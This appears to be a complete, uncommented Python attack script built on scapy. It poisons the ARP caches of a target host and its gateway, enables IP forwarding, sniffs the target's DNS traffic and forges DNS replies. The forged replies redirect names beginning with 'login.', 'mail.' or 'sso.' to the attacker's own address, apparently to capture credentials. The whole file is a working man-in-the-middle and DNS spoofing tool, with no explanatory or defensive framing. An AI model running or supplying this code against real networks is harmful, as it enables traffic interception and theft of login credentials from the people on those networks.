from scapy.all import ARP, DNS, DNSQR, DNSRR, IP, UDP, Ether, get_if_addr, conf, getmacbyip, send, sniff
from threading import Thread
import sys
import time

peer, gateway = sys.argv[1:3]
me = get_if_addr(conf.iface)
SITES = (b"login.", b"mail.", b"sso.")


def keep():
    vm, gm = getmacbyip(peer), getmacbyip(gateway)
    while True:
        send(ARP(op=2, pdst=peer, hwdst=vm, psrc=gateway), verbose=False)
        send(ARP(op=2, pdst=gateway, hwdst=gm, psrc=peer), verbose=False)
        time.sleep(2)


def answer(p):
    if p.haslayer(DNSQR) and p[IP].src == peer and p[DNSQR].qname.startswith(SITES):
        send(IP(dst=p[IP].src, src=p[IP].dst) / UDP(dport=p[UDP].sport, sport=53)
             / DNS(id=p[DNS].id, qr=1, aa=1, qd=p[DNS].qd, an=DNSRR(rrname=p[DNSQR].qname, ttl=30, rdata=me)), verbose=False)


with open("/proc/sys/net/ipv4/ip_forward", "w") as f:
    f.write("1")
Thread(target=keep, daemon=True).start()
sniff(filter=f"udp port 53 and host {peer}", prn=answer, store=0)
